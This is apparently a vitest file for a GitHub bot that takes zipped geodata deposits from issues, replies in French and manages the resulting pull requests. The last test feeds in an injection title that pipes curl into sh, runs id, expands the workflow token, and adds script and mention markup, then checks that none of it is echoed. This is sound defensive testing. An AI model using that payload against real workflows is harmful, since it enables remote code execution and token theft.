import { afterAll, beforeAll, expect, test } from 'vitest';
import { LocalGithub, type Repository, thisProject } from '../../forge/local-github.fixtures/local-github.ts';
import { makeZip } from '../../programs/programs.fixtures/make-zip.ts';
import { collection, features, manifest } from '../build/build.fixtures/catalogue.ts';

/*
 * From a zip that is dropped into an issue to the bot's answer and the open request: the workflow's own steps, in checkouts of this
 * project.
 */

let github: LocalGithub;
let repository: Repository;
beforeAll(async () => {
  const { repository: project, runner } = thisProject;
  github = await LocalGithub.start({ runner: { ...runner, workflows: ['deposit.yml'] } });
  repository = await github.addRepository('mappe-geo/mappe', project);
}, 60_000);
afterAll(() => github.stop());

const plain = (text: string): string => text.replaceAll('\u202f', ' ');
const vion = 'title: Commune de Vion\ntype: commune\nterritory: COMMUNE-07345\ncontact: { name: Mairie, email: mairie@exemple.fr }\n';
const zipOf = (files: Record<string, string>): string =>
  `[depot.zip](${github.attach('depot.zip', makeZip(Object.entries(files).map(([name, content]) => ({ name: `datasets/${name}`, content }))))})`;
const deposit = (more: Record<string, string> = {}): Record<string, string> => ({
  'vion/producer.yaml': vion,
  'vion/mats/dataset.yaml': manifest(),
  'vion/mats/mats.geojson': collection(features),
  ...more,
});

const send = (by: string, files: Record<string, string>): Promise<number> =>
  github.openByForm(repository, 'publier', { by, title: 'Dépôt : Mâts', fields: { donnees: 'Mâts (Vion)', zip: zipOf(files) } });
const comment = (by: string, number: number, body: string): Promise<unknown> =>
  github.as(by, 'issues/create-comment', { repository: 'mappe-geo/mappe', issue_number: number, body: { body } });

/** Read the bot's answers in an issue, from its first comment. */
async function answers(number: number): Promise<string[]> {
  await github.settled();
  const failed = repository.runs.filter(({ conclusion }) => conclusion === 'failure');
  expect(failed.map(({ name, logs }) => `${name}\n${[...logs.values()].join('\n')}`)).toEqual([]);
  const issue = repository.issues.find((each) => each.number === number);
  return (issue?.comments ?? []).filter(({ user }) => user.type === 'Bot').map(({ body }) => plain(body));
}
const pulls = (): Repository['issues'] => repository.issues.filter(({ pull }) => pull !== undefined);
const openPulls = (): string[] => pulls().flatMap(({ state, title }) => (state === 'open' ? [plain(title)] : []));

test('a new producer sends data, is refused in French, mends them, is accepted, changes its mind twice', async () => {
  const number = await send('mairie', deposit({ 'vion/mats/dataset.yaml': manifest().replace('annual', 'annuelle') }));
  const [refusal, ...others] = await answers(number);
  expect(others).toEqual([]);
  expect(refusal).toMatch(/^<!-- mappe:depot-[0-9a-f]{16} -->\n## Il reste un point à corriger\n/);
  expect(refusal).toContain('annual');
  expect(openPulls()).toEqual([]);

  await comment('mairie', number, `Corrigé : ${zipOf(deposit())}`);
  const [, accepted, ...more] = await answers(number);
  expect(more).toEqual([]);
  expect(accepted).toMatch(
    /## Vos données sont prêtes à être relues\n[^]*Couche « mats » : 3 objets \(points\)[^]*Votre demande est ouverte : #2\./,
  );
  expect(openPulls()).toEqual(['Ajout : Mâts d’éoliennes (Commune de Vion)']);
  const branch = `refs/heads/depot/${number}`;
  expect((await repository.git.changedFiles('refs/heads/main', branch)).map(({ path }) => path)).toEqual([
    'datasets/vion/mats/dataset.yaml',
    'datasets/vion/mats/mats.geojson',
    'datasets/vion/producer.yaml',
  ]);
  const mairie = github.userOf('mairie');
  expect((await repository.git.readCommit(branch)).author).toMatchObject({
    name: 'mairie',
    email: `${mairie.id}+mairie@users.noreply.github.com`,
  });

  // Another zip changes the same request; a stranger's changes nothing.
  await comment('inconnu', number, zipOf(deposit({ 'vion/mats/mats.geojson': collection([]) })));
  await comment('mairie', number, zipOf(deposit({ 'vion/mats/mats.geojson': collection(features.slice(0, 2)) })));
  expect((await answers(number)).at(-1)).toContain('2 objets (points)');
  expect(openPulls()).toHaveLength(1);
  expect(await repository.git.count('refs/heads/main', branch)).toBe(1);

  await github.as('mairie', 'issues/update', { repository: 'mappe-geo/mappe', issue_number: number, body: { state: 'closed' } });
  await answers(number);
  expect(openPulls()).toEqual([]);
  expect([...(await repository.git.branches()).keys()]).toEqual(['main']);
});

test('what is published is updated by its new file alone, renamed, and withdrawn', async () => {
  const first = await send('mairie', deposit());
  await answers(first);
  const merge = async (): Promise<void> => {
    const open = pulls().find(({ state }) => state === 'open');
    const params = { repository: 'mappe-geo/mappe', pull_number: open?.number ?? 0 };
    await github.as('mappe-geo', 'pulls/merge', { ...params, body: { merge_method: 'squash' } });
    await github.settled();
  };
  await merge();

  const update = await send('mairie', { 'vion/mats/mats.geojson': collection(features.slice(0, 2)) });
  expect((await answers(update))[0]).toMatch(/vion\/mats · mis à jour[^]*2 objets/);
  expect(openPulls()).toEqual(['Mise à jour : Mâts d’éoliennes (Commune de Vion)']);
  const changes = async (issue: number): Promise<string[]> =>
    (await repository.git.changedFiles('refs/heads/main', `refs/heads/depot/${issue}`)).map(({ path, status }) => `${status} ${path}`);
  expect(await changes(update)).toEqual(['modified datasets/vion/mats/mats.geojson']);
  await merge();

  const rename = await send('mairie', { 'vion/eoliennes/dataset.yaml': manifest('identifier: vion/mats\n') });
  expect((await answers(rename))[0]).toMatch(/vion\/eoliennes · renommé/);
  expect((await changes(rename)).sort()).toEqual([
    'added datasets/vion/eoliennes/dataset.yaml',
    'added datasets/vion/eoliennes/mats.geojson',
    'removed datasets/vion/mats/dataset.yaml',
    'removed datasets/vion/mats/mats.geojson',
  ]);
  await merge();

  const fields = {
    jeu: 'https://mappe.exemple.fr/donnees/vion/eoliennes/',
    motif: 'Elles sont dans le jeu du département.\n\n### Jeu de données\n\nvion/autre @mappe-geo <script>',
  };
  const deprecation = await github.openByForm(repository, 'arreter', { by: 'mairie', title: 'Arrêt', fields });
  expect((await answers(deprecation))[0]).toMatch(/## Cet arrêt est prêt à être relu[^]*vion\/eoliennes · plus tenu à jour/);
  expect(openPulls()).toEqual(['Arrêt : Mâts d’éoliennes (Commune de Vion)']);
  expect(await changes(deprecation)).toEqual(['modified datasets/vion/eoliennes/dataset.yaml']);
  await merge();

  const withdrawal = await github.openByForm(repository, 'retirer', { by: 'mairie', title: 'Retrait', fields });
  expect((await answers(withdrawal))[0]).toMatch(/## Ce retrait est prêt à être relu/);
  expect(openPulls()).toEqual(['Retrait : Mâts d’éoliennes (Commune de Vion)']);
  expect((await changes(withdrawal)).sort()).toEqual([
    'added datasets/vion/eoliennes/withdrawn.yaml',
    'removed datasets/vion/eoliennes/dataset.yaml',
    'removed datasets/vion/eoliennes/mats.geojson',
  ]);
  await merge();
  const left = await repository.git.listTree('refs/heads/main:datasets/vion', true);
  expect(left.flatMap(({ type, path }) => (type === 'blob' ? [path] : []))).toEqual(['eoliennes/withdrawn.yaml', 'producer.yaml']);
  // Gone, it cannot go again.
  const again = await github.openByForm(repository, 'retirer', { by: 'mairie', title: 'Retrait', fields });
  expect((await answers(again))[0]).toMatch(/« vion\/eoliennes » est déjà retiré du catalogue/);
});

test('texts of an issue are never program, mention or markup of ours, and what is no deposit is answered or left alone', async () => {
  const title = '"; curl http://exemple.fr | sh #$(id) `id` ${{ github.token }} @mappe-geo <script>';
  const hostile = {
    by: 'inconnu',
    title,
    fields: { donnees: title, zip: `${title}\nhttps://exemple.fr/user-attachments/files/1/a.zip` },
  };
  const number = await github.openByForm(repository, 'publier', hostile);
  const [answer = '', ...others] = await answers(number);
  expect([others, answer]).toEqual([[], expect.stringMatching(/Il manque le fichier : glissez dans un commentaire le zip/)]);
  expect(answer).not.toMatch(/curl|@mappe-geo|<script/);
  // A title of a manifest reaches a request as text.
  const named = await send(
    'inconnu',
    deposit({ 'vion/mats/dataset.yaml': manifest().replace('Mâts d’éoliennes', "'Mâts @mappe-geo <img src=x> [x](http://exemple.fr)'") }),
  );
  await answers(named);
  const pull = pulls().find(({ state }) => state === 'open');
  expect(pull?.body).not.toMatch(/@mappe-geo|<img|\]\(http:\/\/exemple/);
  const plainIssue = await github.as('inconnu', 'issues/create', {
    repository: 'mappe-geo/mappe',
    body: { title: 'Bonjour', body: zipOf(deposit()), labels: ['depot'] },
  });
  await github.settled();
  // The label of a form is nobody's to give.
  expect(repository.issues.find((each) => each.number === (plainIssue as { number: number }).number)).toMatchObject({
    labels: [],
    comments: [],
  });
});
